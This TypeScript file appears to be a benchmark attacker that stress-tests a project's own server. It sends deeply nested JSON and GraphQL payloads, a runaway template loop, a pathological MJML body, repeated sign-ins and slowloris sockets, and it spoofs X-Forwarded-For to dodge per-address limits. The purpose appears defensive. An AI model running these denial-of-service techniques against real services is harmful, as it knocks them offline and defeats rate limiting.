/**
 * The attacker of bench/attacked.ts: asks for everything that costs most, each six times at once, from one address or several and with
 * somebody's good token, as fast as it is answered. Told where by its parent; says in the end how often it asked and what it was answered.
 */
import { connect } from 'node:net';

interface Aim {
  readonly url: string;
  readonly clientId: string;
  readonly token: string;
  readonly links: readonly string[];
  /** How many addresses the attacker has. */
  readonly addresses: number;
}

const LOOPS = '{% for i in (1..1400) %}{% for j in (1..1400) %}{{ i | times: j }}{% endfor %}{% endfor %}';
const PREVIEW =
  'previewBundle(previewContent: { clientId: $clientId, contentTemplateType: email, locale: "en_US", subject: "x", format: $format, content: $content }) { problems { message } }';

/** Requests that hurt a server that has no limits, in turn. */
function hostile({ clientId, token, links }: Aim): readonly (readonly [path: string, init: RequestInit])[] {
  const json = (body: string, headers: Record<string, string> = {}): RequestInit => ({
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  });
  const query = (document: string, variables: object = {}) => JSON.stringify({ query: document, variables });
  const sign = 'mutation ($email: String!, $password: String!) { signIn(email: $email, password: $password) { session { token } } }';
  const garbage = { authorization: `${'e'.repeat(300)}.${'y'.repeat(900)}.${'z'.repeat(500)}` };
  const insider = { authorization: token };
  const preview = (format: string, content: string) =>
    query(`query ($clientId: ID!, $format: String!, $content: String!) { ${PREVIEW} }`, { clientId, format, content });
  return [
    ['/api/account', json('['.repeat(250_000))],
    ['/api/account', json(query(`{ ${'a { '.repeat(1_900)} }`))],
    ['/api/account', json(query(`{ ${'__typename '.repeat(5_000)} }`), garbage)],
    ['/api/identity', json(query(sign, { email: `person${Math.random()}@a.example`, password: 'Sommer2026!!' }))],
    [`${links[0]}`, {}],
    [
      `${links[1]}/identity`,
      { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'answer=1&token=x&key=y' },
    ],
    ['/api/cms', json(preview('text', LOOPS), insider)],
    ['/api/cms', json(preview('mjml', `<mjml><mj-body><mj-raw>${'<a "'.repeat(40_000)}</mj-raw></mj-body></mjml>`), insider)],
    [
      '/api/account',
      json(
        query(
          `query ($c: ID!) { ${Array.from({ length: 30 }, (_, at) => `a${at}: searchAccounts(clientId: $c, queryText: "a e i") { results { accountId } }`).join(' ')} }`,
          {
            c: clientId,
          },
        ),
        insider,
      ),
    ],
    ['/hooks/none', json('{}')],
    [`/auth/${'x'.repeat(9_000)}`, {}],
  ];
}

const counts = new Map<string, number>();
const count = (answer: string) => counts.set(answer, (counts.get(answer) ?? 0) + 1);
let going = true;

/** Asks for one thing again and again: what is refused late holds up nothing else. */
async function loop(aim: Aim, kind: number, from: string): Promise<void> {
  while (going) {
    // Each time anew: a person's address is never the same.
    const [path, init] = hostile(aim)[kind]!;
    const headers = { ...(init.headers as Record<string, string>), 'x-forwarded-for': from };
    const answer = await fetch(aim.url + path, { redirect: 'manual', ...init, headers }).catch(() => null);
    await answer?.text().catch(() => {});
    count(answer ? String(answer.status) : 'cut off');
  }
}

process.on('message', (message: Aim | 'stop') => {
  if (message === 'stop') {
    going = false;
    const said = [...counts].sort(([a], [b]) => a.localeCompare(b)).map(([answer, times]) => `${times.toLocaleString('en')} × ${answer}`);
    process.send?.(said.join(', '), () => process.exit(0));
    return;
  }
  const { hostname, port } = new URL(message.url);
  const slow = Array.from({ length: 200 }, () => connect(Number(port), hostname).on('error', () => {}));
  for (const socket of slow) socket.write('POST /api/identity HTTP/1.1\r\nhost: x\r\nx-slow: ');
  for (let kind = 0; kind < hostile(message).length; kind += 1)
    for (let at = 0; at < 6; at += 1) void loop(message, kind, `198.51.100.${at % message.addresses}`);
});
